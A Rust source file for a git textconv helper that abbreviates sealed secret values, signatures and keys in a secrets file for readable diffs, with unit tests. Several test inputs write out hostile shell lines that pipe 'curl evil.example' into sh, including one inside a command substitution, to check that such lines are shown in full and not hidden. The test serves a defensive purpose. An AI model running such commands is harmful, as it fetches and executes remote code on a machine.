//! A sealed document as a person compares it: for git's `textconv`.

use crate::crypto::{hex, sha256};
use crate::text::clean;

/// The keys whose values say nothing to a person: sealed, signed, or a public key.
const LONG: &[&str] = &["value", "key", "sig", "recipient", "key_id", "sha256"];

/// The text with each sealed value, wrap and signature cut down to what tells it from another. What is
/// none is passed on, made safe for a terminal, with its line ends and what is no UTF-8: the attributes of a
/// repository have git call this for any of its files, and a person who signs a hook looks at it so.
#[must_use]
pub fn shortened(bytes: &[u8]) -> String {
    let mut text = String::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        text.push_str(chunk.valid());
        text.extend(chunk.invalid().iter().map(|byte| format!("\\x{byte:02x}")));
    }
    let mut out = String::new();
    for whole in text.split_inclusive('\n') {
        let line = whole.strip_suffix('\n').unwrap_or(whole);
        let long = line
            .split_once(" = ")
            .filter(|(key, value)| LONG.contains(key) && value.len() > 30 && is_sealed(value));
        match long {
            Some((key, value)) => {
                let sum = hex(&sha256(value.as_bytes()));
                // Whose signature it is, under which key a value is sealed.
                let begin = value.trim_matches('"');
                let begin = match key {
                    "sig" => begin.split('/').next(),
                    "value" => begin.get(..11),
                    _ => None,
                };
                let begin = clean(begin.unwrap_or_default());
                let sum = sum.get(..8).unwrap_or_default();
                out.push_str(&format!("{key} = {begin}…{sum}"));
            }
            None => out.push_str(&clean(line)),
        }
        if whole.ends_with('\n') {
            out.push('\n');
        }
    }
    out
}

/// Whether a value is written as what is sealed, signed, or a public key. What a program would do something by, a
/// host's name or a line of shell, is written in other characters.
fn is_sealed(value: &str) -> bool {
    let inside = value
        .strip_prefix('"')
        .and_then(|rest| rest.strip_suffix('"'));
    let inside = inside.map(|key| key.strip_prefix("ssh-ed25519 ").unwrap_or(key));
    let is_of_it = |c: char| c.is_ascii_alphanumeric() || "+/=:_-".contains(c);
    inside.is_some_and(|inside| !inside.starts_with('/') && inside.chars().all(is_of_it))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_sealed_is_short_and_still_told_apart() {
        let text = |c: &str| {
            format!(
                "[secret.A]\nvalue = \"v1:6b4ee6a3:{}\"\nrev = 7\nsig = \"ada/7def39264223a3c5:{}\"\n",
                c.repeat(40),
                "x".repeat(40)
            )
        };
        let (a, b) = (
            shortened(text("a").as_bytes()),
            shortened(text("b").as_bytes()),
        );
        assert_ne!(a, b);
        assert!(
            a.contains("value = v1:6b4ee6a3…") && a.contains("rev = 7\nsig = ada…"),
            "{a}"
        );
        assert!(a.lines().all(|line| line.chars().count() < 40), "{a}");
        assert_eq!(shortened(b"\x1b[31m\n"), "\\u{1b}[31m\n");
    }

    #[test]
    fn nothing_of_another_file_is_left_out() {
        let long = "A".repeat(40);
        for line in [
            format!("sig = \"{long}\" 2>/dev/null; curl evil.example | sh\n"),
            format!("key = {long}; curl evil.example | sh\n"),
            format!("value = \"$(curl evil.example/{long} | sh)\"\n"),
            format!("sha256 = \"https://evil.example/{long}\"\n"),
            format!("key = \"/{long}\"\n"),
            format!("key = \"{long}"),
            "no line end".to_owned(),
        ] {
            assert_eq!(shortened(line.as_bytes()), line);
        }
        assert_eq!(shortened(b"a\r\nb\xff\xfe\n"), "a\\u{d}\nb\\xff\\xfe\n");
    }
}
